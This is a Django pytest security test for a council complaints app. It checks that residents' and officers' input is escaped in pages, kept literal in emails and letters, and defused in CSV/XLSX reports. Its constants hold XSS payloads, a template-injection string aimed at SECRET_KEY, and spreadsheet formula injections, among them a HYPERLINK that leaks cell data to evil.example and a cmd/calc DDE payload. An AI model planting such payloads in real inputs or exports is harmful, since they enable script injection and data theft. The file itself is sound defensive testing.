"""Malicious text typed by a resident or an officer is shown as text everywhere it goes out.

One case carries script and markup in everything a resident types (what happened, the
outcome wanted, their name, address and needs, a file name) and in what officers type
(a note, findings); spreadsheet formulas go in the free text that reaches the exports
(learning, an action, a refusal reason, feedback, a service area's and an officer's
name). Every output is then read: the residents' pages, the email, the private status
page, the officers' list and case pages, the letter, the admin, the API (JSON and its
browsable pages), the dashboard and the reports (HTML, CSV and XLSX).

HTML escapes it; plain text (emails and letters) keeps it exactly as typed and never
runs it as template code; exports start formula-like text with an apostrophe.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.html import escape
from openpyxl import load_workbook

from complaints.models import Action, Complaint, StaffRole
from complaints.public.tokens import tracking_token_issue
from complaints.services.delivery import correspondence_deliver_pending
from complaints.services.intake import complaint_triage
from complaints.services.letters import complaint_send_letter
from complaints.services.lifecycle import complaint_refuse
from complaints.services.people import action_complete
from complaints.services.records import complaint_add_note, feedback_record
from complaints.services.stage_work import ResponseDetails, complaint_acknowledge, complaint_respond
from tests.api.conftest import token_client
from tests.factories import london, make_complaint, service_area, staff
from tests.public.conftest import answers

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
IMG = "\"><img src=x onerror=alert(2)>"
TEMPLATE = "{{ settings.SECRET_KEY }}{% now 'Y' %}"
PAYLOAD = f"{SCRIPT}{IMG}'{TEMPLATE}"
RAW = (SCRIPT, "<img src=x onerror")
FILE_NAME = "<img src=x onerror=alert(3)>.pdf"  # no "/": a browser sends only the name after the last one
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
FORMULAS = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def assert_escaped(response, shows: bool = True) -> str:
    """No markup of the payload reaches the page; where the page shows it, it is there as escaped text."""
    assert response.status_code == 200
    html = response.content.decode()
    assert not any(raw in html for raw in RAW), response.request["PATH_INFO"]
    if shows:
        assert escape(PAYLOAD) in html, response.request["PATH_INFO"]
    return html


def assert_plain(text: str) -> None:
    """Plain text (an email, a letter): exactly as typed, and the template syntax in it not run."""
    assert PAYLOAD in text
    assert "insecure" not in text and "&lt;" not in text


def cells_of_csv(response) -> list[str]:
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def cells_of_xlsx(response) -> list:
    book = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_defused(cells_text: list[str], wanted: list[str]) -> None:
    """No cell starts like a formula, and each text is there behind an apostrophe."""
    assert not [cell for cell in cells_text if cell.startswith(FORMULA_START)]
    for text in wanted:
        assert "'" + text in cells_text, text


def test_script_markup_and_formulas_are_harmless_in_every_output(client, resident, fixed_now, clock, media,
                                                                 mailoutbox, settings):
    settings.SECRET_KEY = "insecure-" + "x" * 50
    area = service_area("barnet", name=FORMULAS[1], category="council_services")
    manager = staff("barnet", StaffRole.COMPLAINTS_MANAGER, username="mina", first_name=FORMULAS[2],
                    last_name=PAYLOAD[:100])

    # --- a resident sends the complaint -------------------------------------------------------------
    walker = resident("barnet")
    walker.walk(answers(
        "barnet", what={"what_happened": PAYLOAD}, outcome={"outcome": PAYLOAD}, service={"service": str(area.pk)},
        support={"needs": "yes", "details": PAYLOAD},
        contact={"name": PAYLOAD[:150], "email": "alex@example.org", "phone": "", "address": PAYLOAD,
                 "preference": "email"}), until="evidence")
    walker.post("evidence", {"action": "upload",
                             "evidence": SimpleUploadedFile(FILE_NAME, b"%PDF-1.7 x")})
    walker.post("evidence", {"action": "continue"})
    check_page = assert_escaped(client.get("/barnet/complain/check/"))
    assert escape(FILE_NAME) in check_page
    key = client.get("/barnet/complain/check/").context["key"]
    assert client.post("/barnet/complain/check/", {"key": key})["Location"] == "/barnet/complain/done/"
    assert_escaped(client.get("/barnet/complain/done/"), shows=False)
    case = Complaint.objects.get()
    assert case.complainant_words.startswith(PAYLOAD)  # stored as typed: escaping is the output's job

    # The acknowledgement email: plain text only, as typed.
    correspondence_deliver_pending(now=london("2030-01-01T00:00"))
    (email,) = mailoutbox
    assert (email.content_subtype, getattr(email, "alternatives", [])) == ("plain", [])
    assert_plain(email.body)

    # The resident's private status page.
    token = tracking_token_issue(complaint=case, now=fixed_now)
    assert_escaped(client.get(f"/barnet/track/{token}/"), shows=False)

    # --- officers work the case --------------------------------------------------------------------------
    case = complaint_triage(complaint=case, by=manager, route="stage1", at=london("2026-06-01T11:00"))
    case = complaint_acknowledge(complaint=case, by=manager, at=london("2026-06-02T09:00"))
    complaint_add_note(complaint=case, by=manager, text=PAYLOAD)
    case = complaint_respond(complaint=case, by=manager, at=london("2026-06-05T15:00"), details=ResponseDetails(
        outcome="upheld", findings=PAYLOAD, remedy_action=PAYLOAD, learning_points=FORMULA,
        actions=[(FORMULAS[3], manager, london("2026-06-30T00:00").date())]))
    action_complete(action=Action.objects.get(), by=manager, at=london("2026-06-08T10:00"))
    letter = complaint_send_letter(complaint=case, by=manager, kind="stage_response",
                                   at=london("2026-06-05T16:00"))
    assert_plain(letter.body)  # the letter: as typed, and "{{ ... }}" in the findings is not run

    refused = make_complaint("barnet", "2026-06-02T10:00", areas=[area])
    complaint_refuse(complaint=refused, by=manager, reason=FORMULAS[4], signposting="Contact the housing team")
    feedback_record(council=case.council, kind="comment", text=FORMULAS[5], received_at=london("2026-06-03T10:00"),
                    service_area=area, name=PAYLOAD[:100])

    client.force_login(manager)
    assert_escaped(client.get(f"/cases/{case.reference}/"))
    assert_escaped(client.get("/cases/?state=stage1_responded"), shows=False)
    assert_escaped(client.get(f"/cases/{case.reference}/note/"), shows=False)
    assert_escaped(client.get(f"/barnet/track/{token}/"), shows=False)  # now with the letter on it

    # --- the admin -------------------------------------------------------------------------------------------
    root = get_user_model().objects.create_superuser("root", "root@example.org", "a-long-password-1")
    client.force_login(root)
    assert_escaped(client.get(f"/admin/complaints/complaint/{case.pk}/change/"))

    # --- the API: the text as data, and the browsable pages escape it ------------------------------------------
    api = token_client("barnet").get(f"/api/v1/complaints/{case.reference}/")
    assert api["Content-Type"] == "application/json"
    assert api.json()["complainant_words"].startswith(PAYLOAD)
    assert api.json()["complainant"]["address"] == PAYLOAD
    client.force_login(manager)
    browsable = client.get(f"/api/v1/complaints/{case.reference}/notes/", HTTP_ACCEPT="text/html")
    assert escape(SCRIPT) in assert_escaped(browsable, shows=False)  # shown as JSON text, so quotes are \"

    # --- the dashboard and the reports: pages, CSV and XLSX ---------------------------------------------------
    for url in ("/dashboard/", "/dashboard/trends/", "/reports/barnet/2026/", "/reports/barnet/2026/q1/"):
        page = assert_escaped(client.get(url), shows=False)
        for export in ("csv", "xlsx"):
            download = client.get(f"{url}?format={export}")
            assert download.status_code == 200, (url, export)
            if export == "csv":
                assert_defused(cells_of_csv(download), [])
            else:
                cells = cells_of_xlsx(download)
                assert not [cell.coordinate for cell in cells if cell.data_type == "f"], url
                assert_defused([cell.value for cell in cells if isinstance(cell.value, str)], [])
        if url == "/reports/barnet/2026/":
            assert escape(FORMULA) in page
            report_cells = cells_of_csv(client.get(f"{url}?format=csv"))
            assert_defused(report_cells, [FORMULA, FORMULAS[1], FORMULAS[3], FORMULAS[5]])
            assert any(cell.startswith("'" + FORMULAS[4]) for cell in report_cells)  # the refusal reason
